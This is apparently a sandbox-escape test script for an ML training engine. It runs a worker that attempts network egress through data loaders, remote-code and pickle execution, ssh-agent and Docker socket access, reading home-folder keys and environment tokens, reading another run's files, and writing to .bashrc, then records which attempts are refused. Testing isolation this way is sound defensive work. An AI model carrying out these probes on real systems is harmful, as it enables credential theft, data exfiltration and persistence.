"""python hostile_worker.py RUN: in a worker's place, what hostile data and hostile libraries would do in it.

The model's folder holds attacks.json: where the listener is, and where the secrets lie. What came of each attack goes
to outputs/attacks.json in the run's folder: {name: "out: ..." | "refused: ..." | "absent: ..."}.
"""

from __future__ import annotations

import json
import os
import pickle
import socket
import subprocess
import sys
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path
from typing import Any
from urllib.request import urlopen

from engine.offline import set_offline
from engine.run.directory import RunDirectory
from engine.run.processes.channel import Channel
from engine.run.sealing.lines import tell_from_environment

_SECONDS = 2.0
ATTACKS: dict[str, Callable[[Any], str]] = {}


class Absent(Exception):
    """What the attack needs is not installed."""


def attack(name: str) -> Callable[[Callable[[Any], str]], Callable[[Any], str]]:
    def add(function: Callable[[Any], str]) -> Callable[[Any], str]:
        ATTACKS[name] = function
        return function

    return add


@attack("a data row with the address of an image")
def image_row(aims: Any) -> str:
    from PIL import Image

    row = json.loads(aims.rows[0])
    with urlopen(row["image"], timeout=_SECONDS) as file:
        try:
            Image.open(file)
        except OSError as error:  # what the listener says is no image
            return f"the answer was read: {error}"
    return "the answer was read"


@attack("a data row with the address of a recording")
def audio_row(aims: Any) -> str:
    row = json.loads(aims.rows[1])
    with urlopen(row["audio"], timeout=_SECONDS) as file:
        return f"{len(file.read())} bytes were read"


@attack("a data row's address, as transformers loads images")
def transformers_image(aims: Any) -> str:
    try:
        import httpx  # noqa: F401
    except ImportError:
        raise Absent("httpx") from None
    from transformers.image_utils import load_image

    return str(load_image(json.loads(aims.rows[0])["image"], timeout=_SECONDS))


@attack("a CSV file that is an address")
def csv_address(aims: Any) -> str:
    import pyarrow.csv

    with urlopen(f"{aims.url}/rows.csv", timeout=_SECONDS) as file:
        options = pyarrow.csv.ReadOptions(column_names=["text"])
        return f"{pyarrow.csv.read_csv(file, options).num_rows} rows were read"


@attack("a Parquet file in an object store")
def object_store(aims: Any) -> str:
    """Beneath Python: pyarrow's own network, in C++."""
    import pyarrow.fs

    store = pyarrow.fs.S3FileSystem(
        access_key=aims.nonce,
        secret_key="-",
        endpoint_override=aims.host,
        scheme="http",
        connect_timeout=_SECONDS,
        request_timeout=_SECONDS,
        retry_strategy=pyarrow.fs.AwsStandardS3RetryStrategy(max_attempts=1),
        allow_delayed_open=False,
        region="nowhere",
    )
    try:
        with store.open_input_stream(f"bucket/{aims.nonce}.parquet") as file:
            return f"{len(file.read())} bytes were read"
    except OSError as error:
        # pyarrow's error has no number: what it says of the answer tells whether one came.
        if "CONNECTION" in str(error).upper() or "curlCode" in str(error):
            raise
        return f"an answer came: {error}"


@attack("an address given to pandas")
def pandas_address(aims: Any) -> str:
    try:
        import pandas
    except ImportError:
        raise Absent("pandas") from None
    return str(pandas.read_json(f"{aims.url}/rows.json"))


@attack("an address given to fsspec")
def fsspec_address(aims: Any) -> str:
    try:
        import aiohttp  # noqa: F401
    except ImportError:
        raise Absent("aiohttp") from None
    import fsspec

    with fsspec.open(f"{aims.url}/rows") as file:
        return f"{len(file.read())} bytes were read"


@attack("weights by torch.hub")
def torch_hub(aims: Any) -> str:
    import torch

    target = Path(aims.run) / "outputs" / "hub"
    torch.hub.download_url_to_file(f"{aims.url}/weights", str(target), progress=False)
    return f"{target.stat().st_size} bytes were fetched"


@attack("a store of torch.distributed")
def distributed_store(aims: Any) -> str:
    """Beneath Python: sockets made in C++."""
    from multiprocessing import get_context

    from torch.distributed import TCPStore

    host, port = aims.host.split(":")

    def join() -> None:
        TCPStore(host, int(port), is_master=False, timeout=timedelta(seconds=_SECONDS), wait_for_workers=False)

    process = get_context("fork").Process(target=join)
    process.start()
    process.join(4 * _SECONDS)
    if process.is_alive():  # it waits for an answer, which the listener has none for
        process.kill()
        return "connected"
    raise PermissionError(13, f"it ended with {process.exitcode}")


@attack("code in a model's folder")
def model_code(aims: Any) -> str:
    from transformers import AutoConfig

    return str(AutoConfig.from_pretrained(aims.folder, trust_remote_code=True).said)


@attack("code in a tokenizer's folder")
def tokenizer_code(aims: Any) -> str:
    from transformers import AutoTokenizer

    return str(AutoTokenizer.from_pretrained(aims.folder, trust_remote_code=True).said)


@attack("a chat template that starts a program")
def chat_template(aims: Any) -> str:
    """As rendered by a library that has no sandbox."""
    from jinja2 import Environment

    source = (Path(aims.folder) / "chat_template.jinja").read_text()
    return _said(Environment().from_string(source).render(messages=[]))


@attack("weights that are a pickle with code")
def pickled_weights(aims: Any) -> str:
    return _said(str(pickle.loads((Path(aims.folder) / "weights.bin").read_bytes())))


@attack("a compiled program")
def compiled(aims: Any) -> str:
    program = Path(aims.folder) / "helper"
    if not program.exists():
        raise Absent("a C compiler")
    return _said(_output([str(program)]))


@attack("a Python of its own")
def spawned(aims: Any) -> str:
    script = f"from urllib.request import urlopen; print(urlopen('{aims.url}', timeout={_SECONDS}).read().decode())"
    return _said(_output([sys.executable, "-c", script]))


@attack("a program of a Unix socket outside")
def unix_socket(aims: Any) -> str:
    """As that of an ssh agent or of Docker, where they lie."""
    refused = OSError()
    for path in aims.sockets:
        try:
            with socket.socket(socket.AF_UNIX) as out:
                out.connect(path)
                out.sendall(f"{aims.nonce}\n".encode())
                return f"connected to {path}"
        except OSError as error:
            refused = error
    raise refused


@attack("keys and tokens in the home folder")
def secrets(aims: Any) -> str:
    found, refused = [], OSError()
    for path in aims.secrets:
        try:
            found.append(Path(path).read_text())
        except OSError as error:
            refused = error
    if not found:
        raise refused
    return f"{len(found)} of {len(aims.secrets)} were read"


@attack("tokens in the environment")
def environment(aims: Any) -> str:
    found = [name for name, value in os.environ.items() if aims.token in value]
    if not found:
        raise PermissionError(13, "there are none")
    return ", ".join(found)


@attack("another run's folder")
def other_run(aims: Any) -> str:
    return Path(aims.another).read_text()


@attack("a line in what runs at the next log-in")
def login(aims: Any) -> str:
    with (Path(aims.home) / ".bashrc").open("r+") as file:
        file.write("# hostile\n")
    return "written"


def _output(command: list[str]) -> str:
    return subprocess.run(command, check=False, capture_output=True, text=True, timeout=8 * _SECONDS).stdout


def _said(text: str) -> str:
    """What a program said that reached the listener. Raises PermissionError where it did not."""
    if "reached" not in text:
        raise PermissionError(13, f"nothing came back: {text[:100]!r}")
    return "the listener answered"


def main(path: str) -> None:
    run = RunDirectory(Path(path))
    channel = Channel.from_environment()
    channel.install_sigterm()
    tell = tell_from_environment()
    set_offline()  # as the trainer does; none of these asks whether it is
    aims = _Aims(run)
    run.outputs.mkdir(exist_ok=True)
    outcomes = {}
    for name, function in ATTACKS.items():
        try:
            outcomes[name] = f"out: {function(aims)}"
        except Absent as error:
            outcomes[name] = f"absent: {error}"
        except Exception as error:
            outcomes[name] = f"refused: {type(error).__name__}: {error}"
    if tell is not None:
        from engine.seal.proof.guard import install

        install(tell)
        try:
            audio_row(aims)
        except OSError as error:
            outcomes["guarded"] = str(error)
    (run.outputs / "attacks.json").write_text(json.dumps(outcomes))
    channel.send("outcome", outcome="finished", cause="", why="", step=0)


class _Aims:
    def __init__(self, run: RunDirectory):
        self.run = str(run.path)
        self.folder = str(run.spec().model.path)
        values = json.loads((Path(self.folder) / "attacks.json").read_text())
        self.nonce, self.host, self.token = values["nonce"], values["host"], values["token"]
        self.url = f"http://{self.host}/{self.nonce}"
        self.home, self.another = values["home"], values["another"]
        self.secrets, self.sockets = values["secrets"], values["sockets"]
        self.rows = Path(values["rows"]).read_text().splitlines()


if __name__ == "__main__":
    main(sys.argv[1])
